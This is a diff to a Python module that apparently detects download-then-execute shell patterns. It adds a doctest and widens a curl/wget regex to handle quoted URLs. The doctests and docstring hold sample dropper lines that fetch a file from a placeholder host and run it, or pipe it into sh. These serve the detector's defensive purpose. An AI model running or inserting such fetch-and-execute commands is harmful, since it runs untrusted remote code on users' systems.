@@ -14,6 +14,8 @@ Windows spells the same dropper with ``Invoke-WebRequest URL -OutFile $env:TEMP\
 
 >>> pipe_equivalents("curl -sO http://203.0.113.9/pl\\nchmod +x pl; ./pl").splitlines()[0]
 'curl -sO http://203.0.113.9/pl ; curl http://203.0.113.9/pl | sh'
+>>> pipe_equivalents('curl -o /tmp/b "https://x.invalid/b?os=l&v=1"\\nsh /tmp/b').splitlines()[0]
+'curl -o /tmp/b "https://x.invalid/b?os=l&v=1" ; curl https://x.invalid/b?os=l&v=1 | sh'
 >>> pipe_equivalents("curl -o data.json https://x.invalid/d\\njq . data.json")
 'curl -o data.json https://x.invalid/d\\njq . data.json'
 """
@@ -26,7 +28,9 @@ from dataclasses import dataclass
 RUN_WINDOW = 40
 """Lines after a download in which running the saved file counts as running the download."""
 
-_FETCH = re.compile(r"\b(curl|wget)[ \t]+([^\n|;&]*)")
+_FETCH = re.compile(r"\b(curl|wget)[ \t]+((?:\"[^\"\n]*\"|'[^'\n]*'|[^\n|;&\"'])*)")
+"""A download command and its words, up to the end of the command (an ``&`` or ``|``
+inside a quoted URL's query is part of a word)."""
 _URL = re.compile(r"""^["']?(https?://[^\s"'`<>]+)""")
 _SAFE_NAME = re.compile(r"^(?!\.*$)[\w.+-]{1,80}$")
 _WINDOWS_FETCH = re.compile(
